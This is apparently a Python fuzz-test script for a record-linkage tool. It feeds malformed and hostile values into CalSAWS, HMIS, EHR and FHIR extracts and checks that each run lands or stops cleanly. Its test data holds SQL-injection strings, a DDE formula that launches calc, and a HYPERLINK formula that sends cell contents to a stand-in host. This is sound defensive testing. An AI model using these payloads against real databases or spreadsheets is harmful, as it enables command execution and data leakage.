"""Hostile and broken values in real-shaped extracts: does every run land or stop cleanly?

Copies the first --rows records of each bundled sample extract into WORK/<case>/, mutates
one kind of field in about half of them (impossible and odd dates, hostile names, SSNs,
phones and ZIPs, HMIS codes, CalSAWS key parts, empty columns, a Windows-1252 file, FHIR
Patients in shapes other EHRs write and lines that are no resource, a deeply nested line,
an injection-shaped header, conflicting duplicate keys, blank keys, one name shared by every
record, names in other scripts, control characters and emoji, spreadsheet formulas,
100,000-character values, placeholder SSNs), delivers a file another way (a byte order
mark, line breaks inside quoted fields, a header alone, zero bytes, a FHIR Bundle), or
writes the same records as other export tools do (pipe and tab delimiters, a header in
capitals, CRLF and LF lines joined, bare CR lines, a trailing comma on every line, secondary columns left out, NULL for every empty value, a typed Parquet file), runs
`linkage run --json` on it and reports per case: the exit code, whether a traceback
appeared, per source rows read, landed and rejected with the reject reasons and value
warnings (counts only, never values), the records given an EID, the crosswalk's pair F1
against the sample's truth, and the cells of the crosswalk export and the review file (CSV)
that a spreadsheet would run as a formula. A clean result is exit 0 with every row landed
or rejected with a reason, or exit 2 with a one-line error; a traceback is a defect.

    .venv/bin/python benchmarks/fuzz_extracts.py [--work build/fuzz] [--rows 150] [CASE ...]
"""

from __future__ import annotations

import argparse
import csv
import json
import random
import shutil
import subprocess
import sys
from pathlib import Path

SAMPLE = Path(__file__).resolve().parent.parent / "sample_data"
rnd = random.Random(7)
ROWS = 150


def read_csv(path: Path, rows: int | None = None) -> tuple[list[str], list[list[str]]]:
    with open(path, newline="", encoding="utf-8") as handle:
        lines = list(csv.reader(handle))
    return lines[0], lines[1:][:rows]


def write_csv(path: Path, header: list[str], rows: list[list[str]], encoding: str = "utf-8") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", newline="", encoding=encoding) as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)


def base(folder: Path) -> None:
    """The first ROWS records of every sample source, and a config that links them."""
    if folder.exists():
        shutil.rmtree(folder)
    (folder / "hmis").mkdir(parents=True)
    write_csv(folder / "calsaws.csv", *read_csv(SAMPLE / "calsaws/persons.csv", ROWS))
    header, clients = read_csv(SAMPLE / "hmis/Client.csv", ROWS)
    write_csv(folder / "hmis/Client.csv", header, clients)
    ids = {row[0] for row in clients}
    header, enrollments = read_csv(SAMPLE / "hmis/Enrollment.csv")
    person = header.index("PersonalID")
    write_csv(folder / "hmis/Enrollment.csv", header, [r for r in enrollments if r[person] in ids])
    shutil.copy(SAMPLE / "hmis/Export.csv", folder / "hmis/Export.csv")
    write_csv(folder / "ehr.csv", *read_csv(SAMPLE / "ehr/patients.csv", ROWS))
    lines = (SAMPLE / "ehr/patients.ndjson").read_text(encoding="utf-8").splitlines()[:ROWS]
    (folder / "fhir.ndjson").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (folder / "config.yaml").write_text(f"""store: {folder}/store.duckdb
model: {SAMPLE.parent}/models/default.json
sources:
  - {{name: calsaws, kind: calsaws, path: {folder}/calsaws.csv}}
  - {{name: hmis, kind: hmis, path: {folder}/hmis}}
  - {{name: ehr_csv, kind: ehr_csv, path: {folder}/ehr.csv}}
  - {{name: ehr_fhir, kind: ehr_fhir, path: {folder}/fhir.ndjson}}
linking:
  match_threshold: auto
""", encoding="utf-8")


def mutate_col(path: Path, column: str, values: list[str], share: float = 0.5,
               encoding: str = "utf-8") -> None:
    header, rows = read_csv(path)
    index = header.index(column)
    for row in rows:
        if rnd.random() < share:
            row[index] = rnd.choice(values)
    write_csv(path, header, rows, encoding=encoding)


def mutate_fhir(path: Path, change) -> None:
    lines = []
    for line in path.read_text(encoding="utf-8").splitlines():
        resource = json.loads(line)
        if rnd.random() < 0.5:
            resource = change(resource)
        lines.append(resource if isinstance(resource, str) else json.dumps(resource))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


BAD_DATES = ["1985-02-30", "13/45/1990", "00/00/0000", "0000-00-00", "9999-12-31", "2099-01-01",
             "1800-01-01", "32874", "19850230", "1985", "1985-07", "July 4, 1976", "4-Jul-76",
             "1985-07-04T00:00:00Z", "07/04/85", "  ", "NULL", "N/A", "unknown", "1/1/1", "-1",
             "1985/07/04", "04.07.1985", "1e10", "٢٠٢٠-٠١-٠١", "1985-07-04 garbage"]
BAD_NAMES = ["", " ", "'; DROP TABLE person; --", "\u0000x", "O'Brien", "José Ñúñez", "李小龍",
             "محمد", "A" * 5000, "😀😀", "-", "...", "BABY BOY", "UNKNOWN", "Z\u0301\u0302\u0303",
             "Mc Donald-Smith Jr.", "NULL", "\t", "x\ny", "=cmd|' /C calc'!A0", "\u202eevil",
             "ǅemal", "ß", "İstanbul"]
BAD_SSN = ["000-00-0000", "999999999", "123-45-678", "12345678901", "abc-de-fghi", "XXX-XX-1234",
           "1234", "  123 45 6789 ", "-1", "1.23456789E8", "666-12-3456", "9" * 200]
BAD_PHONE = ["0", "+1 (555) 555-5555 ext 12", "n/a", "1" * 100, "555-5555", "☎", "+44 20 7946 0958"]
BAD_ZIP = ["ABCDE", "9", "90210-", "902101234", "00000", "-", "9" * 50]
BAD_SEX = ["X", "U", "unknown", "2", "9", "", "Female ", "f", "MALE", "other", "🙂"]

CASES = {}


def case(function):
    """A mutation of one case's copied extracts (its folder is the argument)."""
    CASES[function.__name__] = function
    return function


@case
def dates_calsaws(folder: Path) -> None:
    mutate_col(folder / "calsaws.csv", "dob", BAD_DATES)


@case
def dates_ehr(folder: Path) -> None:
    mutate_col(folder / "ehr.csv", "dob", BAD_DATES)


@case
def dates_hmis(folder: Path) -> None:
    mutate_col(folder / "hmis/Client.csv", "DOB", BAD_DATES)


@case
def names_all(folder: Path) -> None:
    for file, first, last in (("calsaws.csv", "first_name", "last_name"),
                              ("ehr.csv", "first_name", "last_name"),
                              ("hmis/Client.csv", "FirstName", "LastName")):
        mutate_col(folder / file, first, BAD_NAMES)
        mutate_col(folder / file, last, BAD_NAMES)


@case
def ssn_all(folder: Path) -> None:
    for file, column in (("calsaws.csv", "ssn"), ("ehr.csv", "ssn"), ("hmis/Client.csv", "SSN")):
        mutate_col(folder / file, column, BAD_SSN)


@case
def phone_zip_sex(folder: Path) -> None:
    for file, phone, zip_code, sex in (("calsaws.csv", "phone", "res_zip", "sex"),
                                       ("ehr.csv", "phone", "zip", "gender")):
        mutate_col(folder / file, phone, BAD_PHONE)
        mutate_col(folder / file, zip_code, BAD_ZIP)
        mutate_col(folder / file, sex, BAD_SEX)


@case
def hmis_codes(folder: Path) -> None:
    for column in ("NameDataQuality", "SSNDataQuality", "DOBDataQuality", "Woman", "Man",
                   "VeteranStatus"):
        mutate_col(folder / "hmis/Client.csv", column,
                   ["", "99", "-1", "x", "8.0", "1.5", "999999999999999999999"])


@case
def calsaws_keys(folder: Path) -> None:
    mutate_col(folder / "calsaws.csv", "person_number", ["", "1", "001", "x", "-"], 0.2)
    mutate_col(folder / "calsaws.csv", "county_code", ["", "019", "LA", "99"], 0.2)


@case
def all_empty_cols(folder: Path) -> None:
    header, rows = read_csv(folder / "ehr.csv")
    keep = {"mrn", "assigning_authority"}
    write_csv(folder / "ehr.csv", header,
              [[value if column in keep else "" for column, value in zip(header, row)]
               for row in rows])


@case
def latin1_and_cp1252(folder: Path) -> None:
    mutate_col(folder / "calsaws.csv", "last_name", ["MUÑOZ", "PEÑA", "GARCÍA", "O’NEIL"], 0.3,
               encoding="cp1252")


FHIR_CHANGES = [
    lambda o: {**o, "name": "John Smith"},
    lambda o: {**o, "name": [{"text": "Smith, John"}]},
    lambda o: {**o, "name": [{"family": ["Smith"], "given": "John"}]},
    lambda o: {**o, "birthDate": 19850704},
    lambda o: {**o, "birthDate": "1985-02-30"},
    lambda o: {**o, "birthDate": "1985"},
    lambda o: {**o, "identifier": {"value": "x"}},
    lambda o: {**o, "identifier": [{"value": None}, {"type": "MR"}, 5]},
    lambda o: {**o, "address": [{"line": "1 Main St", "postalCode": 90210}]},
    lambda o: {**o, "telecom": [{"system": "phone"}, None]},
    lambda o: {**o, "gender": ["male"]},
    lambda o: {**o, "name": [None, {"family": None, "given": [None, ""]}]},
    lambda o: {k: v for k, v in o.items() if k != "resourceType"},
    lambda o: {**o, "id": None},
    lambda o: {**o, "id": 12345},
    lambda o: {**o, "extension": [{"url": "x", "valueString": "a" * 100000}]},
    lambda o: "[1,2,3]",
    lambda o: "null",
    lambda o: '"just a string"',
    lambda o: json.dumps(o)[:-5],
    lambda o: {**o, "deceasedBoolean": "yes", "multipleBirthInteger": "x"},
]


@case
def fhir_shapes(folder: Path) -> None:
    mutate_fhir(folder / "fhir.ndjson", lambda resource: rnd.choice(FHIR_CHANGES)(resource))


@case
def fhir_deep_nesting(folder: Path) -> None:
    path = folder / "fhir.ndjson"
    deep = '{"resourceType":"Patient","id":"deep","name":' + "[" * 5000 + "]" * 5000 + "}"
    path.write_text(path.read_text(encoding="utf-8") + deep + "\n", encoding="utf-8")


@case
def csv_injection_header(folder: Path) -> None:
    header, rows = read_csv(folder / "ehr.csv")
    write_csv(folder / "ehr.csv", header + ["'; DROP TABLE x;--", 'a"b', "mrn "],
              [row + ["1", "2", "3"] for row in rows])


@case
def dup_keys_conflict(folder: Path) -> None:
    header, rows = read_csv(folder / "ehr.csv")
    changed = [list(row) for row in rows[:20]]
    for row in changed:
        row[header.index("first_name")] = "CHANGED"
    write_csv(folder / "ehr.csv", header, rows + changed)


@case
def ws_only_keys(folder: Path) -> None:
    mutate_col(folder / "ehr.csv", "mrn", [" ", "", "\t", "NULL", "0"], 0.1)


@case
def huge_dup_names(folder: Path) -> None:
    """Every EHR record one name and birth date: a blocking blow-up."""
    header, rows = read_csv(folder / "ehr.csv")
    for row in rows:
        row[header.index("first_name")] = "JOHN"
        row[header.index("last_name")] = "SMITH"
        row[header.index("dob")] = "01/01/1980"
    write_csv(folder / "ehr.csv", header, rows)


# Letters of the Latin alphabet as Cyrillic letters (one each, so a name keeps its identity).
CYRILLIC = dict(zip("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
                    "АБЦДЕФГХИЙКЛМНОПЯРСТУВШЖЫЗабцдефгхийклмнопярстувшжыз"))
NAME_COLUMNS = (("calsaws.csv", ("first_name", "middle_name", "last_name")),
                ("ehr.csv", ("first_name", "middle_name", "last_name")),
                ("hmis/Client.csv", ("FirstName", "MiddleName", "LastName")))


def map_columns(path: Path, columns, change) -> None:
    header, rows = read_csv(path)
    for row in rows:
        for column in columns:
            row[header.index(column)] = change(row[header.index(column)])
    write_csv(path, header, rows)


@case
def names_cyrillic(folder: Path) -> None:
    """Every name in every source written in Cyrillic letters, the same name the same way."""
    def cyrillic(text: str) -> str:
        return "".join(CYRILLIC.get(char, char) for char in text)
    for file, columns in NAME_COLUMNS:
        map_columns(folder / file, columns, cyrillic)

    def fhir(resource):
        for name in resource.get("name", []):
            name["family"] = cyrillic(name.get("family", ""))
            name["given"] = [cyrillic(given) for given in name.get("given", [])]
        return resource
    lines = [json.dumps(fhir(json.loads(line)))
             for line in (folder / "fhir.ndjson").read_text(encoding="utf-8").splitlines()]
    (folder / "fhir.ndjson").write_text("\n".join(lines) + "\n", encoding="utf-8")


# Latin letters as a clerk writes a name in Cyrillic by its sound (CAROL -> КАРОЛ).
BY_SOUND = dict(zip("ABCDEFGHIJKLMNOPQRSTUVWXYZ",
                    ["А", "Б", "К", "Д", "Е", "Ф", "Г", "Х", "И", "ДЖ", "К", "Л", "М", "Н", "О",
                     "П", "К", "Р", "С", "Т", "У", "В", "В", "КС", "Й", "З"]))


@case
def names_two_scripts(folder: Path) -> None:
    """The CalSAWS extract's names written in Cyrillic by their sound, the other sources'
    in Latin letters: one person in two scripts."""
    map_columns(folder / "calsaws.csv", NAME_COLUMNS[0][1],
                lambda text: "".join(BY_SOUND.get(char, char) for char in text.upper()))


@case
def names_other_scripts(folder: Path) -> None:
    """Half the names in one of five non-Latin scripts, or Vietnamese with full diacritics."""
    names = ["Иван", "Ёлкина", "Ελένη", "Παπαδόπουλος", "李小龍", "王", "محمد", "عبد الله",
             "Nguyễn Thị Minh Khai", "Trần", "がくせい", "김민준"]
    for file, columns in NAME_COLUMNS:
        for column in columns:
            mutate_col(folder / file, column, names)


FHIR_LENIENT = [
    lambda o: {**o, "name": [{**n, "given": " ".join(n.get("given", []))} for n in o["name"]]},
    lambda o: {**o, "name": o["name"][0]},
    lambda o: {**o, "telecom": o["telecom"][0]} if o.get("telecom") else o,
    lambda o: {**o, "address": {**o["address"][0], "line": " ".join(o["address"][0]["line"])}}
    if o.get("address") else o,
    lambda o: {**o, "birthDate": o["birthDate"] + "T00:00:00Z"} if o.get("birthDate") else o,
    lambda o: {**o, "gender": str(o.get("gender", "")).upper()},
    lambda o: {**o, "identifier": [{"value": i["value"], "type": {"text": i["type"]["coding"][0]["code"]}}
                                   for i in o.get("identifier", [])]},
]


@case
def fhir_lenient(folder: Path) -> None:
    """Half the Patients in shapes real EHR exports write: a `given` string, a `name`, an
    `address` or a `telecom` as one object, an address line as a string, a birth date with a
    time, gender in capitals, identifiers told by their type's text alone."""
    mutate_fhir(folder / "fhir.ndjson", lambda resource: rnd.choice(FHIR_LENIENT)(resource))


@case
def fhir_bundle(folder: Path) -> None:
    """The Patients as one searchset Bundle, pretty-printed, where NDJSON is expected."""
    path = folder / "fhir.ndjson"
    entries = [{"resource": json.loads(line)} for line in path.read_text(encoding="utf-8").splitlines()]
    path.write_text(json.dumps({"resourceType": "Bundle", "type": "searchset", "entry": entries},
                               indent=2), encoding="utf-8")


@case
def byte_order_mark(folder: Path) -> None:
    for file in ("calsaws.csv", "ehr.csv", "hmis/Client.csv", "fhir.ndjson"):
        path = folder / file
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())


@case
def embedded_newlines(folder: Path) -> None:
    """Quoted fields holding line breaks (an address typed on two lines, a note)."""
    mutate_col(folder / "ehr.csv", "address_line1", ["1 Main St\nApt 4", "PO Box 5\r\nSuite 2"], 0.3)
    mutate_col(folder / "calsaws.csv", "last_name", ["GARCIA\nLOPEZ"], 0.1)


@case
def huge_fields(folder: Path) -> None:
    """A 100,000-character value in a name, a street and a key."""
    mutate_col(folder / "ehr.csv", "last_name", ["A" * 100_000], 0.1)
    mutate_col(folder / "calsaws.csv", "res_street", ["1 MAIN ST " * 10_000], 0.1)
    mutate_col(folder / "ehr.csv", "mrn", ["9" * 100_000], 0.02)


@case
def control_chars(folder: Path) -> None:
    """NUL bytes, control and invisible characters inside names, and NULs in SSNs."""
    header, rows = read_csv(folder / "ehr.csv")
    for number, row in enumerate(rows[::2]):
        for column in ("first_name", "last_name"):
            name = row[header.index(column)]
            half = len(name) // 2
            row[header.index(column)] = ("\x00" + name[:half] + ["\x00", "\u200b", "\x07", "\u00ad"][
                number % 4] + name[half:] + "\x1b\x00\x00")
        row[header.index("ssn")] = row[header.index("ssn")].replace("-", "\x00")
    write_csv(folder / "ehr.csv", header, rows)


@case
def header_only(folder: Path) -> None:
    header, _ = read_csv(folder / "ehr.csv")
    write_csv(folder / "ehr.csv", header, [])


@case
def zero_byte(folder: Path) -> None:
    (folder / "ehr.csv").write_bytes(b"")


@case
def formula_values(folder: Path) -> None:
    """Spreadsheet formulas as names, emails and streets, and as a fifth of the MRNs (each
    still unique, so the records land with them as their keys): CSV injection."""
    formulas = ['=HYPERLINK("http://x.example/?a="&A1,"click")', "=cmd|' /C calc'!A0",
                "+SUM(1,2)", "-2+3", "@SUM(1)"]
    for column in ("first_name", "last_name", "email", "address_line1"):
        mutate_col(folder / "ehr.csv", column, formulas, 0.2)
    header, rows = read_csv(folder / "ehr.csv")
    mrn = header.index("mrn")
    for number, row in enumerate(rows):
        if number % 5 == 0:
            row[mrn] = ['=HYPERLINK("http://x.example/{}","open")', "+{}", "-{}", "@{}"][
                number // 5 % 4].format(row[mrn])
    write_csv(folder / "ehr.csv", header, rows)


@case
def emoji_names(folder: Path) -> None:
    """Emoji beside half the names (a nickname field typed on a phone)."""
    emoji = ["😀", " 🙂", " 👨‍👩‍👧", "🌮 "]
    header, rows = read_csv(folder / "ehr.csv")
    for number, row in enumerate(rows[::2]):
        for column in ("first_name", "last_name"):
            row[header.index(column)] += emoji[number % len(emoji)]
    write_csv(folder / "ehr.csv", header, rows)


@case
def zero_dates(folder: Path) -> None:
    for file, column in (("calsaws.csv", "dob"), ("ehr.csv", "dob"), ("hmis/Client.csv", "DOB")):
        mutate_col(folder / file, column, ["0000-00-00", "00/00/0000", "0000-00-00 00:00:00"], 0.3)


@case
def one_placeholder_ssn(folder: Path) -> None:
    """Every record's SSN one of the placeholders intake forms use: as a match key it would
    join strangers."""
    for file, column in (("calsaws.csv", "ssn"), ("ehr.csv", "ssn"), ("hmis/Client.csv", "SSN")):
        mutate_col(folder / file, column, ["000-00-0000", "123-45-6789", "999-99-9999"], 1.0)


# -- the same records as other export tools write them ------------------------------------------
@case
def as_delivered(folder: Path) -> None:
    """The copies unchanged: what the cases below are compared with."""


def rewrite_csv(path: Path, *, delimiter: str = ",", header=None, line_end: str = "\n",
                empty: str = "") -> None:
    """Write `path` again: another delimiter, header, line end, or text for an empty value."""
    old_header, rows = read_csv(path)
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle, delimiter=delimiter, lineterminator=line_end)
        writer.writerow(header(old_header) if header else old_header)
        writer.writerows([[value if value != "" else empty for value in row] for row in rows])


@case
def pipe_and_tab_delimited(folder: Path) -> None:
    rewrite_csv(folder / "calsaws.csv", delimiter="|")
    rewrite_csv(folder / "ehr.csv", delimiter="\t")


@case
def excel_unicode_text(folder: Path) -> None:
    """Excel's "Unicode Text" export: UTF-16 with a byte order mark, tab-delimited, CRLF
    lines, saved over the EHR CSV of a source left at `encoding: utf-8`."""
    header, rows = read_csv(folder / "ehr.csv")
    text = "".join("\t".join(row) + "\r\n" for row in [header, *rows])
    (folder / "ehr.csv").write_bytes(text.encode("utf-16"))


@case
def header_in_capitals(folder: Path) -> None:
    """A database export's header: CalSAWS and HMIS in capitals, EHR words spaced."""
    rewrite_csv(folder / "calsaws.csv", header=lambda h: [c.upper() for c in h])
    for name in ("Client.csv", "Enrollment.csv"):
        rewrite_csv(folder / "hmis" / name, header=lambda h: [c.upper() for c in h])
    rewrite_csv(folder / "ehr.csv", header=lambda h: [c.replace("_", " ").title() for c in h])


@case
def mixed_line_ends(folder: Path) -> None:
    """Two extracts joined: CRLF lines, then LF lines."""
    rewrite_csv(folder / "ehr.csv", line_end="\r\n")
    path = folder / "ehr.csv"
    lines = path.read_bytes().split(b"\r\n")
    half = len(lines) // 2
    path.write_bytes(b"\r\n".join(lines[:half]) + b"\r\n" + b"\n".join(lines[half:]))


@case
def mac_line_ends(folder: Path) -> None:
    """Excel for Mac's "CSV (Macintosh)": every line ends in a bare CR."""
    path = folder / "calsaws.csv"
    path.write_bytes(path.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r"))


@case
def trailing_commas(folder: Path) -> None:
    """Every line, the header too, ends in a comma: an empty, unnamed last column."""
    for path in (folder / "ehr.csv", folder / "hmis/Client.csv"):
        header, rows = read_csv(path)
        write_csv(path, [*header, ""], [[*row, ""] for row in rows])


@case
def secondary_columns_absent(folder: Path) -> None:
    """Another county system's layouts: no CIN, unit or mailing address in the CalSAWS
    extract, no assigning authority, suffix, second line or e-mail in the EHR's."""
    for path, absent in ((folder / "calsaws.csv", {"cin", "res_unit", "mail_street", "mail_city",
                                                   "mail_state", "mail_zip"}),
                         (folder / "ehr.csv", {"assigning_authority", "suffix", "address_line2",
                                               "email"})):
        header, rows = read_csv(path)
        keep = [i for i, column in enumerate(header) if column not in absent]
        write_csv(path, [header[i] for i in keep], [[row[i] for i in keep] for row in rows])


@case
def empty_written_null(folder: Path) -> None:
    """SQL Server's and bcp's empty values: NULL in every empty field."""
    for path in (folder / "calsaws.csv", folder / "ehr.csv", folder / "hmis" / "Client.csv"):
        rewrite_csv(path, empty="NULL")


@case
def typed_parquet(folder: Path) -> None:
    """The CalSAWS extract as a typed Parquet file (pandas): numbers where digits were, floats
    where a column has gaps, birth dates as MMDDYYYY numbers."""
    import pandas as pd

    frame = pd.read_csv(folder / "calsaws.csv", dtype=str)
    for column in ("county_code", "case_number", "person_number", "ssn", "phone", "res_zip",
                   "mail_zip"):
        if column in frame:
            digits = frame[column].str.replace(r"[^0-9]", "", regex=True).replace("", None)
            frame[column] = pd.to_numeric(digits, errors="coerce")
    dob = pd.to_datetime(frame["dob"], errors="coerce", format="mixed")
    frame["dob"] = pd.to_numeric(dob.dt.strftime("%m%d%Y"), errors="coerce")
    frame.to_parquet(folder / "calsaws.parquet")
    (folder / "calsaws.csv").unlink()
    config = folder / "config.yaml"
    config.write_text(config.read_text(encoding="utf-8").replace("calsaws.csv", "calsaws.parquet"),
                      encoding="utf-8")


def linkage_command() -> str:
    beside = Path(sys.executable).parent / "linkage"
    return str(beside) if beside.exists() else (shutil.which("linkage") or "linkage")


def run(name: str, work: Path) -> dict:
    folder = work / name
    base(folder)
    CASES[name](folder)
    done = subprocess.run([linkage_command(), "--progress", "none", "run", "-c",
                           str(folder / "config.yaml"), "--json"],
                          capture_output=True, text=True, timeout=900)
    result = {"case": name, "exit": done.returncode, "traceback": "Traceback" in done.stderr}
    try:
        summary = json.loads(done.stdout)
    except json.JSONDecodeError:
        summary = {}
    if "error" in summary:
        result["error"] = summary["error"].get("kind")
    result["sources"] = {
        source["source_system"]: {key: source[key] for key in (
            "rows_read", "rows_landed", "rows_rejected", "rejects", "warnings")}
        for source in summary.get("sources", [])}
    crosswalk = summary.get("crosswalk", {})
    result["records_with_an_eid"] = crosswalk.get("records_added")
    if done.returncode == 0:
        # Pair F1 of the crosswalk against the sample's truth (it names every sample record).
        evaluated = subprocess.run([linkage_command(), "evaluate", "-c", str(folder / "config.yaml"),
                                    "--truth", str(SAMPLE / "truth.csv"), "--thresholds", "none",
                                    "--json"], capture_output=True, text=True, timeout=900)
        try:
            result["f1"] = round(json.loads(evaluated.stdout)["f1"], 4)
        except (json.JSONDecodeError, KeyError):
            result["f1"] = None
        result["formula_cells"] = formula_cells(folder)
    return result


def formula_cells(folder: Path) -> int | None:
    """Cells of the crosswalk export and the review file (CSV, for people to open) that a
    spreadsheet would run as a formula; None if either could not be written."""
    count = 0
    for command, out in ((["crosswalk", "export"], "crosswalk.csv"),
                         (["review", "export"], "review.csv")):
        done = subprocess.run([linkage_command(), "--progress", "none", *command, "-c",
                               str(folder / "config.yaml"), "--out", str(folder / out)],
                              capture_output=True, text=True, timeout=900)
        if done.returncode != 0:
            return None
        with open(folder / out, newline="", encoding="utf-8") as handle:
            count += sum(cell[:1] in ("=", "+", "-", "@", "\t", "\r")
                         for row in csv.reader(handle) for cell in row)
    return count


def main() -> None:
    global ROWS
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("cases", nargs="*", help=f"cases to run (default all: {', '.join(CASES)})")
    parser.add_argument("--work", type=Path, default=SAMPLE.parent / "build" / "fuzz")
    parser.add_argument("--rows", type=int, default=ROWS)
    args = parser.parse_args()
    ROWS = args.rows
    results = [run(name, args.work.resolve()) for name in (args.cases or CASES)]
    print(json.dumps(results, indent=2))
    if any(result["traceback"] or result["exit"] not in (0, 2) for result in results):
        sys.exit(1)


if __name__ == "__main__":
    main()
